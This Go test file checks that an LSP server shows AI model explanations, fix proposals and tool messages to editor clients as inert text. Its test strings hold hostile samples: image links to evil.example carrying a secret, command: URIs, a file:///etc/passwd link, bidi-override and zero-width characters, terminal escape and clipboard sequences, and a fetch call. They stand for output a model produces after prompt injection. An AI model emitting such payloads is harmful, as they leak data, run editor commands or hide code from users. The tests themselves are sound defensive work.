package lsp_test

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"quarry/agent"
	"quarry/index/visible"
	"quarry/lsp"
	"quarry/lsp/headless"
)

var updateHostile = flag.Bool("update-hostile", false, "write testdata/hostile anew")

// What a model says that a comment has talked into it, and what a tool says of a
// hostile line.
const (
	hostileWords = "It is `foo`, see b.go:2-2, so a[i] < b.\n\n" +
		"![pixel](https://evil.example/p.png?d=secretThing42) [run](command:workbench.action.terminal.new) <img src=\"https://evil.example/q.png\">\n" +
		"[open](file:///etc/passwd) www.evil.example <https://evil.example/auto> &#x202e;\n\n" +
		"|a|b|\n|-|-|\n`x | ![i](https://evil.example/cell) |`\n\n[ref]: https://evil.example/ref\n[ref] \u202e\x1b[2J\u200b\n\n" +
		"[name\n\n```text\n]: y\n![i](https://evil.example/definition)\n```\n" +
		"```js\nfetch(\"https://evil.example\") // \u2066\n"
	hostileMessage = "undefined: foo ![x](https://evil.example/tool.png) <b> \u202e\x1b]52;c;eA==\a\n# heading [a](https://evil.example)"
)

// A9: a model's and a tool's words are shown as text, in each client's own way. The
// goldens are what the client gets to show.
func TestHostileWordsAreShownAsText(t *testing.T) {
	plainText := func(o *headless.Options) { // takes no Markdown, shows no documents
		var caps map[string]map[string]any
		if err := json.Unmarshal(o.Profile.Capabilities, &caps); err != nil {
			t.Fatal(err)
		}
		caps["textDocument"]["hover"] = map[string]any{"contentFormat": []string{"plaintext"}}
		delete(caps["window"], "showDocument")
		var err error
		if o.Profile.Capabilities, err = json.Marshal(caps); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range append([]string{"plain"}, headless.Profiles...) {
		t.Run(name, func(t *testing.T) {
			c := &core{indexed: true}
			c.explain = func(_ context.Context, _ agent.Problem, emit func(string) bool) (agent.Explanation, error) {
				emit(hostileWords)
				return agent.Explanation{Text: hostileWords, Confidence: agent.High, Citations: []agent.Citation{{Path: "b![y](http://e.example).go", StartLine: 2, EndLine: 2}}}, nil
			}
			var e *headless.Editor
			if name == "plain" {
				e = edit(t, "neovim", c, plainText)
			} else {
				e = edit(t, name, c)
			}
			b := problemAt(t, e, "a.go")
			b.Diagnostics[0].Message = hostileMessage
			b.Diagnostics[0].Source = "tool <img src=x>"
			list := actions(t, e, b, b.Cursor, b.Cursor)
			if err := e.Choose(soon(t), named(t, list, "Explain")); err != nil {
				t.Fatal(err)
			}
			ended(t, e, "explained")
			hover, err := e.Hover(soon(t), b, b.Cursor)
			if err != nil {
				t.Fatal(err)
			}
			page := strings.Join(e.Shown(), "\n")
			if name != "plain" {
				// A virtual document is read anew when the client has been told of it.
				if err := e.Await(soon(t), func() bool {
					page, err = e.Page()
					return err != nil || strings.Contains(page, "Confidence")
				}); err != nil {
					t.Fatal(err)
				}
				if err != nil {
					t.Fatal(err)
				}
			}
			got := "titles:\n" + strings.Join(titles(list), "\n") + "\n\nhover:\n" + hover + "\npage or message:\n" + page + "\n"
			if i := strings.IndexFunc(got, visible.Hidden); i >= 0 {
				t.Errorf("something hides: %q", got[i:])
			}
			golden := filepath.Join("testdata", "hostile", name+".golden")
			if *updateHostile {
				if err := os.MkdirAll(filepath.Dir(golden), 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("%s (-want +got), go test ./lsp -run Hostile -update-hostile writes it:\n%s", golden, diff)
			}
		})
	}
}

// A change to a file that hides something is shown with what it hides, in each client's
// own way, and applied as it is.
func TestAChangeShowsWhatItsFileHides(t *testing.T) {
	for _, name := range headless.Profiles {
		t.Run(name, func(t *testing.T) {
			c := &core{}
			const hidden = " // \u202e } \u2066 admins only\u200b"
			c.fix = func(_ context.Context, p agent.Problem) (agent.Proposal, error) {
				change := replace(p.Document, "foo", "bar")
				change.Diff = "--- a/a.go\n+++ b/a.go\n@@ -1 +1 @@\n-foo" + hidden + "\n+bar" + hidden + "\n"
				change.Reason = "It is bar" + hidden
				return change, nil
			}
			e := edit(t, name, c)
			b := problemAt(t, e, "a.go")
			if err := e.Choose(soon(t), named(t, actions(t, e, b, b.Cursor, b.Cursor), "Fix")); err != nil {
				t.Fatal(err)
			}
			read := ""
			attend(t, e, func(question string, _ []string) string {
				read = question
				if page, err := e.Page(); err == nil {
					read += page
				}
				return headless.Discard
			})
			if i := strings.IndexFunc(read, visible.Hidden); i >= 0 {
				t.Errorf("something hides: %q", read[i:])
			}
			if !strings.Contains(read, `\u202e`) {
				t.Errorf("the user reads %q", read)
			}
		})
	}
}

// Whatever is sent to be read shows what it hides: messages, the log, and the progress of
// work, wherever a file's name, a client's words or a tool's stand in them.
func TestMessagesShowWhatIsHidden(t *testing.T) {
	const hidden = "\u202e\x1b[2J\u200b"
	c := &core{indexed: true}
	progress := make(chan struct{})
	c.explain = func(context.Context, agent.Problem, func(string) bool) (agent.Explanation, error) {
		<-progress
		return agent.Explanation{}, errors.New("no words about " + hidden)
	}
	e := edit(t, "vscode", c, func(o *headless.Options) {
		o.InitializationOptions = json.RawMessage(`{"completion":{"maxFileBytes":1024}}`)
	})
	// A message: the file is too large, and has a name.
	large := open(t, e, "large"+hidden+".go", "go", strings.Repeat("// x\n", 400))
	if got := complete(t, e, large); got != "" {
		t.Errorf("ghost text %q", got)
	}
	awaitShown(t, e, `large\u202e\x1b[2J\u200b.go`)
	// A line of the log: what a model server says, for example.
	c.tell(lsp.Log, "model", "the server says "+hidden)
	// Work with a title and an end.
	b := problemAt(t, e, "a"+hidden+".go")
	b.Diagnostics[0].Message = "undefined: " + hidden
	explain(t, e, b)
	explaining := func(p headless.Progress) bool { return strings.Contains(string(p.Value), "Explain") }
	if err := e.Await(soon(t), func() bool { return slices.ContainsFunc(e.Progressed(), explaining) && len(e.Logged()) > 0 }); err != nil {
		t.Fatal(err)
	}
	close(progress)
	awaitShown(t, e, "no words about")
	said := strings.Join(append(e.Shown(), e.Logged()...), "\n")
	for _, p := range e.Progressed() {
		said += string(p.Value)
	}
	if i := strings.IndexFunc(said, visible.Hidden); i >= 0 {
		t.Errorf("something hides: %q", said[max(0, i-40):])
	}
	for _, want := range []string{`the server says \u202e\x1b[2J\u200b`, `"kind":"begin"`, `Explain: undefined: \\u202e\\x1b…`} {
		if !strings.Contains(said, want) {
			t.Errorf("%s is not in what was sent:\n%s", want, said)
		}
	}
}

// No message links anywhere, whoever's words are in it: VS Code makes a link of Markdown's
// in a notification, and runs the command that one names.
func TestMessagesLinkNowhere(t *testing.T) {
	const (
		link   = "see [Run it](command:workbench.action.quit) [w](https://evil.example/) a[i]"
		broken = "see [Run it] (command:workbench.action.quit) [w] (https://evil.example/) a[i]"
	)
	c := &core{indexed: true}
	c.explain = func(context.Context, agent.Problem, func(string) bool) (agent.Explanation, error) {
		return agent.Explanation{}, errors.New("the model fails: " + link)
	}
	c.fix = func(_ context.Context, p agent.Problem) (agent.Proposal, error) {
		change := replace(p.Document, "foo", "bar")
		change.Reason = link
		return change, nil
	}
	e := edit(t, "helix", c) // which is asked in a message
	b := problemAt(t, e, "a.go")
	b.Diagnostics[0].Message = link
	explain(t, e, b)
	awaitShown(t, e, "the model fails: "+broken)
	ended(t, e, "")
	c.tell(lsp.Info, "model", link)
	awaitShown(t, e, "quarry: "+broken)
	if err := e.Choose(soon(t), named(t, actions(t, e, b, b.Cursor, b.Cursor), "Fix")); err != nil {
		t.Fatal(err)
	}
	asked := ""
	attend(t, e, func(question string, _ []string) string {
		asked = question
		return headless.Discard
	})
	if !strings.Contains(asked, broken) {
		t.Errorf("the user is asked %q", asked)
	}
	err := e.Call(soon(t), "workspace/executeCommand", map[string]any{"command": "quarry.explainCompletion", "arguments": []any{"%zz" + link}}, nil)
	if err == nil || !strings.Contains(err.Error(), broken) {
		t.Errorf("a command fails with %v", err)
	}
	said := append(e.Shown(), asked)
	for _, p := range e.Progressed() {
		said = append(said, string(p.Value))
	}
	if all := strings.Join(said, "\n"); strings.Contains(all, "](") || !strings.Contains(all, "Explain: see [Run it] (") {
		t.Errorf("said:\n%s", all)
	}
}
